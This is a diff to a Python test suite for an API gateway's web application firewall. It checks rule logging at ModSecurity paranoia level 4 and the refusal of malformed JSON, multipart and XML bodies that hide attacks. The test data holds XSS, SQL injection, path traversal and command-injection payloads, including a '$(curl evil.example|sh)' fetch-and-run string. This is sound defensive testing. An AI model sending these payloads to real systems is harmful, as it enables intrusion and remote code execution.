@@ -8,8 +8,13 @@ JSON body and a form body; XSS; path traversal; CRLF and
 smuggling-shaped protocol attacks; command injection; scanners) are
 answered 403 in block mode with nothing upstream, and forwarded whole in
 detect mode, each with its WAF log line (the family's rule and 949110),
-its access line's waf field and its counter; a WAF log of its own, eight
-matches kept; 50 legitimate payment API requests (waf_payments.json:
+its access line's waf field and its counter; a WAF log of its own that
+names every rule that matched (checked against ModSecurity's audit log at
+paranoia 4), eight matches kept whole; bodies the processors cannot parse
+(JSON with a comment, trailing data, a byte order mark, a truncated end;
+a multipart header's unclosed quote; XML with two roots) refused 400 in
+block mode and logged in detect mode, XML parsed, legitimate JSON,
+multipart and XML bodies passing; 50 legitimate payment API requests (waf_payments.json:
 names with apostrophes and accents, addresses, amounts, card tokens,
 dates, UUIDs, notes, URLs, queries) pass unchanged, and the shapes the
 CRS flags pass with a per-field exclusion that keeps the rule for every
@@ -204,14 +209,15 @@ class Gw:
                 continue
             eq(len(ws), 1, "%s: one WAF line" % what)
             w = ws[0]
-            action, fam, route = waf
+            action, fam, route = waf[:3]
             eq((w["action"], w["route"], w["listener"], w["client"],
                 w["method"]), (action, route, "main", "127.0.0.1",
                                a["method"]), "%s: the WAF line" % what)
             eq(w["path"], a["path"], "%s: the path as the access log's"
                % what)
-            if action == "blocked":
-                eq(w["status"], 403, "%s: the WAF line's status" % what)
+            if action == "blocked" or len(waf) > 3:
+                eq(w["status"], waf[3] if len(waf) > 3 else 403,
+                   "%s: the WAF line's status" % what)
             check(family(w["rules"], fam),
                   "%s: no %sxxx rule in %r" % (what, fam, w["rules"]))
             if fam.startswith("9"):     # a CRS rule, scored
@@ -361,10 +367,11 @@ def detect_mode_forwards_every_attack_whole_and_logs_it():
 
 
 @test
-def the_waf_log_of_its_own_keeps_eight_matches_and_counts_the_rest():
+def the_waf_log_of_its_own_names_every_rule_and_keeps_eight_matches():
     """waf: log: PATH puts the WAF lines there, not in the access log; a
-    request that trips many rules logs the first eight matches and
-    more_matches counts the others."""
+    request that trips many rules names every one in rules (issue 61: a
+    fixed eight dropped the rest, 949110 among them), the first eight
+    in matches, and more_matches counts the others."""
     require_waf()
     wlog = os.path.join(tmpdir(), "waf.log")
     gw = start([waf_route("pay", "/pay")], waf={"log": wlog})
@@ -380,11 +387,273 @@ def the_waf_log_of_its_own_keeps_eight_matches_and_counts_the_rest():
     w = read_json_lines(wlog, lambda j: j.get("request_id") == rid)
     eq(len(w), 1, "one line in the WAF log")
     w = w[0]
-    eq((len(w["rules"]), len(w["matches"])), (8, 8), "eight kept")
-    check(w.get("more_matches", 0) >= 1, "the rest counted: %r" % w)
+    check(len(w["rules"]) > 8, "more than eight rules named: %r" % w)
+    eq(len(w["matches"]), 8, "eight matches kept whole")
+    eq([m["id"] for m in w["matches"]], w["rules"][:8],
+       "the matches are the first rules")
+    eq(w.get("more_matches"), len(w["rules"]) - 8, "the rest counted")
+    eq(len(set(w["rules"])), len(w["rules"]), "each rule once")
     check(family(w["rules"], "913") and family(w["rules"], "930"),
           "the first rules matched, in order: %r" % w["rules"])
+    eq(w["rules"][-1], 949110, "the blocking rule, last, named")
+    check("rules_left_out" not in w, "none left out: %r" % w)
     gw.sl.stop()
+
+
+def audit_ids(path, rid):
+    """The rule ids ModSecurity's own audit log (parts A and H) names for
+    transaction rid."""
+    with open(path, encoding="utf-8", errors="replace") as f:
+        text = f.read()
+    ids = set()
+    for entry in re.split(r"\n--[0-9a-zA-Z]+-A--\n", "\n" + text):
+        if rid in entry.split("\n", 2)[0] + entry[:200]:
+            ids |= {int(i) for i in re.findall(r'\[id "(\d+)"\]', entry)}
+    return ids
+
+
+@test
+def at_paranoia_4_every_rule_that_matched_is_named():
+    """Issue 61: at paranoia level 4 a request matches dozens of rules;
+    the WAF log line's rules names every one ModSecurity's own audit log
+    names (its part H: every message), not the first eight."""
+    require_waf()
+    d = tmpdir()
+    tuning = os.path.join(d, "pl4.conf")
+    alog = os.path.join(d, "modsec_audit.log")
+    with open(tuning, "w") as f:
+        f.write('SecAction "id:900000,phase:1,nolog,pass,t:none,'
+                'setvar:tx.paranoia_level=4"\n')
+    audit = os.path.join(d, "audit.conf")
+    with open(audit, "w") as f:
+        f.write("SecAuditEngine RelevantOnly\nSecAuditLogParts ABHZ\n"
+                "SecAuditLogType Serial\nSecAuditLog %s\n" % alog)
+    wlog = os.path.join(tmpdir(), "waf.log")
+    gw = start([waf_route("pay", "/pay", rules=[tuning] + CRS + [audit],
+                          audit=True)], waf={"log": wlog})
+    r = gw.send("POST", "/pay/v1/search?q=%3Cscript%3Ealert(1)%3C/script%3E"
+                "&id=1%27%20OR%201%3D1--&f=../../etc/passwd&c=;id",
+                dict(JSON_CT, **{"User-Agent": "Mozilla/5.0 (X11)",
+                                 "Accept": "*/*"}),
+                {"note": "$(curl evil.example|sh) <img src=x onerror=a()>",
+                 "ref": "1 UNION SELECT password FROM users--"})
+    eq(r.status, 403, "blocked")
+    rid = r.header("x-request-id")
+    w = read_json_lines(wlog, lambda j: j.get("request_id") == rid)
+    eq(len(w), 1, "one WAF line")
+    w = w[0]
+    check(wait_until(lambda: os.path.exists(alog) and
+                     audit_ids(alog, rid), 5.0, 0.05),
+          "the audit log names the transaction")
+    want = audit_ids(alog, rid)
+    check(len(want) > 8, "the request matched more than eight rules: %r"
+          % sorted(want))
+    eq(sorted(w["rules"]), sorted(want),
+       "every rule the audit log names, and only those")
+    eq(len(w["matches"]), 8, "eight kept whole")
+    eq(w.get("more_matches"), len(want) - 8, "the rest counted")
+    gw.sl.stop()
+
+
+# ---------------------------------------------------------------------------
+# Bodies the processors cannot parse (issue 61)
+
+MP_CT = {"Content-Type": "multipart/form-data; boundary=XyZ"}
+XML_CT = {"Content-Type": "application/xml; charset=utf-8"}
+XSS = "<script>alert(1)</script>"
+# (what, fields, body, sluice's rule, the reason's start): each attack
+# hidden from the rules in a body their processor gives up on, which a
+# lenient application parser (comments, JSON5, a tolerant multipart
+# reader) would read
+UNPARSED = [
+    ("JSON after a comment", JSON_CT,
+     b'/*x*/{"name":"' + XSS.encode() + b'"}', 77004,
+     "JSON parsing error: lexical error: probable comment"),
+    ("truncated JSON", JSON_CT,
+     b'{"name":"Eve","id":"1 UNION SELECT password FROM users--', 77004,
+     "JSON parsing error: parse error: premature EOF"),
+    ("JSON after a byte order mark", JSON_CT,
+     b'\xef\xbb\xbf{"name":"' + XSS.encode() + b'"}', 77004,
+     "JSON parsing error: lexical error: invalid char"),
+    ("JSON with trailing data", JSON_CT,
+     b'{"a":"b"}{"name":"' + XSS.encode() + b'"}', 77004,
+     "JSON parsing error: parse error: trailing garbage"),
+    # libmodsecurity 3.0.9 reads past the header there: its strict
+    # validation (77003) may or may not see it, sluice's 77005 does
+    ("a multipart name whose quote is never closed", MP_CT,
+     b'--XyZ\r\nContent-Disposition: form-data; name="q\r\n\r\n'
+     + XSS.encode() + b'\r\n--XyZ--\r\n', 7700,
+     ("Multipart parsing error: Multipart: Final boundary missing.",
+      'Content-Disposition: form-data; name=\\x22q')),
+    ("XML with a second root element", XML_CT,
+     b"<a><b>x</b></a><c>" + XSS.encode() + b"</c>", 77004,
+     "XML parsing error"),
+]
+# the same attacks, well formed: the CRS's 403
+WELL_FORMED = [
+    ("JSON", JSON_CT, b'{"name":"' + XSS.encode() + b'"}'),
+    ("multipart", MP_CT,
+     b'--XyZ\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
+     + XSS.encode() + b'\r\n--XyZ--\r\n'),
+    ("XML", XML_CT, b"<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>"),
+    ("SOAP XML", {"Content-Type": "application/soap+xml"},
+     b'<?xml version="1.0"?><e><n>1 UNION SELECT password FROM users--</n>'
+     b'</e>'),
+]
+LEGIT = [
+    ("JSON", JSON_CT, json_body({"name": "Zoë O'Brien", "amount": 1200,
+                                 "items": [{"sku": "A-1", "qty": 2}]})),
+    ("multipart with a file", MP_CT,
+     b'--XyZ\r\nContent-Disposition: form-data; name="note"\r\n\r\n'
+     b'Receipt for March\r\n--XyZ\r\nContent-Disposition: form-data; '
+     b'name="file"; filename="receipt.txt"\r\nContent-Type: text/plain'
+     b'\r\n\r\nTotal: 12.00 GBP\r\n--XyZ--\r\n'),
+    ("XML", XML_CT, '<?xml version="1.0" encoding="utf-8"?><payment>'
+     '<payer>Zoë</payer><amount currency="GBP">12.00</amount></payment>'
+     .encode()),
+]
+
+
+@test
+def bodies_the_processors_cannot_parse_are_refused_in_block_mode():
+    """Issue 61: with the CRS loaded as doc/operations.md shows, a body
+    whose processor fails (or a multipart body that fails strict
+    validation) was forwarded with its attack unseen. Block mode answers
+    400, nothing upstream, and the WAF line says why; the same attacks
+    well formed get 403 (XML through the XML processor), and legitimate
+    JSON, multipart and XML bodies, sent whole or chunked, pass."""
+    require_waf()
+    gw = start([waf_route("pay", "/pay")])
+    for what, hdrs, body, rule, why in UNPARSED:
+        r = gw.send("POST", "/pay/v1/customers", hdrs, body)
+        assert_error(r, 400, "bad_request")
+        rid = gw.expect(r.header("x-request-id"), what,
+                        {"status": 400, "waf": "blocked",
+                         "error": "waf_blocked", "upstream": "-"},
+                        ("blocked", str(rule), "pay", 400))
+        UNPARSED_RIDS[rid] = (what, rule, why)
+    for what, hdrs, body in WELL_FORMED:
+        gw.blocked(gw.send("POST", "/pay/v1/customers", hdrs, body), "94",
+                   what="well-formed %s" % what)
+    found = gw.verify()
+    for rid, (what, rule, why) in UNPARSED_RIDS.items():
+        w = found[rid][0]
+        check(w["body_error"].startswith(why),
+              "%s: the WAF line's body_error %r" % (what, w))
+        m = [x for x in w["matches"] if str(x["id"]).startswith(str(rule))]
+        check(m and m[0]["data"].startswith(why),
+              "%s: rule %d's match says why: %r" % (what, rule, w))
+    UNPARSED_RIDS.clear()
+    eq(gw.up.requests, [], "nothing reached the upstream")
+    for what, hdrs, body in LEGIT:
+        gw.passed(gw.send("POST", "/pay/v1/customers", hdrs, body),
+                  "a legitimate %s body" % what)
+        gw.passed(gw.send("POST", "/pay/v1/customers",
+                          dict(hdrs, **CHUNKED), chunked(body, 40)),
+                  "a legitimate %s body, chunked" % what)
+    # a client library that names a type on a request without a body:
+    # nothing unread, nothing refused
+    for what, hdrs, _ in LEGIT:
+        gw.passed(gw.send("POST",
+                          "/pay/v1/customers", dict(hdrs, **{
+                              "Content-Length": "0"})),
+                  "no body, %s named" % what)
+    gw.verify()
+    eq([u.body for u in gw.up.requests],
+       [b for _, _, b in LEGIT for _ in (0, 1)] + [b""] * len(LEGIT),
+       "the legitimate bodies went upstream whole")
+    gw.counts({"blocked": len(UNPARSED) + len(WELL_FORMED),
+               "pass": 3 * len(LEGIT)})
+    gw.sl.stop()
+
+
+UNPARSED_RIDS = {}
+
+
+@test
+def bodies_the_processors_cannot_parse_are_logged_in_detect_mode():
+    """detect mode: each is forwarded whole, with a WAF line that says
+    detected, its status 400 and why."""
+    require_waf()
+    gw = start([waf_route("pay", "/pay", mode="detect")])
+    rids = {}
+    for what, hdrs, body, rule, why in UNPARSED:
+        r = gw.send("POST", "/pay/v1/customers", hdrs, body)
+        eq(r.status, 200, "%s: forwarded" % what)
+        rids[gw.expect(r.header("x-request-id"), what,
+                       {"status": 200, "waf": "detected", "error": ""},
+                       ("detected", str(rule), "pay", 400))] = why
+    found = gw.verify()
+    for rid, why in rids.items():
+        check(found[rid][0]["body_error"].startswith(why),
+              "the reason: %r" % found[rid][0])
+    eq([u.body for u in gw.up.requests], [u[2] for u in UNPARSED],
+       "every body reached the upstream as sent")
+    gw.counts({"detected": len(UNPARSED)})
+    gw.sl.stop()
+
+
+@test
+def a_cut_body_on_a_partial_route_is_inspected_as_far_as_it_parses():
+    """on_body_limit: partial gives the rules the first body_limit bytes,
+    which no JSON or multipart processor reads to a proper end: that
+    failure is the cut's, so a legitimate large body passes, while an
+    attack in the fields before the cut, and an unparsable body within
+    the limit, are still refused."""
+    require_waf()
+    gw = start([waf_route("pay", "/pay", body_limit="1KiB",
+                          on_body_limit="partial")])
+    big = json_body({"name": "Eve", "note": "x" * 3000})
+    gw.passed(gw.send("POST", "/pay/v1/notes", JSON_CT, big),
+              "a legitimate JSON body past body_limit")
+    early = json_body({"name": XSS, "note": "x" * 3000})
+    gw.blocked(gw.send("POST", "/pay/v1/notes", JSON_CT, early), "941",
+               what="an attack before the cut")
+    r = gw.send("POST", "/pay/v1/notes", JSON_CT, UNPARSED[0][2])
+    assert_error(r, 400, "bad_request")
+    gw.verify()
+    eq([u.body for u in gw.up.requests], [big], "only the legitimate body")
+    gw.sl.stop()
+
+
+@test
+def t_refuses_an_exclusion_of_sluices_own_rules():
+    """The body checks cannot be excluded from a route (a route that
+    removed 77004 would forward what its rules could not read)."""
+    require_waf()
+    d = tmpdir()
+    for ex in ([77004], [{"rule": 77003, "field": "MULTIPART_STRICT_ERROR"}]):
+        cfg, _ = make_config({"pay": ["127.0.0.1:9"]}, routes=[
+            waf_route("pay", "/pay", exclude=ex)])
+        path = write_yaml(os.path.join(d, "own.yaml"), cfg)
+        rc, out, err = run_sluice(["-t", "-c", path])
+        check(rc != 0 and re.search(r"^%s:\d+:\d+: error: route \"pay\": "
+                                    r"waf: \"exclude\": 7700[34] is one of "
+                                    r"sluice's own rules" % re.escape(path),
+                                    err, re.M),
+              "-t refuses %r: %r" % (ex, err))
+
+
+@test
+def t_checks_the_waf_log_and_names_its_place():
+    """-t checks that waf.log can be opened, and says where the key is,
+    as every other configuration error does."""
+    require_waf()
+    d = tmpdir()
+    cfg, _ = make_config({"pay": ["127.0.0.1:9"]}, routes=[
+        waf_route("pay", "/pay")],
+        extra={"waf": {"log": "/nonexistent-dir/waf.log"}})
+    path = write_yaml(os.path.join(d, "wlog.yaml"), cfg)
+    rc, out, err = run_sluice(["-t", "-c", path])
+    with open(path) as f:
+        lines = f.read().splitlines()
+    n = [i for i, l in enumerate(lines, 1) if "/nonexistent-dir/waf.log"
+         in l][0]
+    col = lines[n - 1].index("/nonexistent") + 1
+    check(rc != 0 and re.search(r"^%s:%d:%d: error: waf: \"log\": cannot "
+                                r"open \"/nonexistent-dir/waf.log\""
+                                % (re.escape(path), n, col), err, re.M),
+          "-t names the file, line and column: %r" % err)
 
 
 # ---------------------------------------------------------------------------
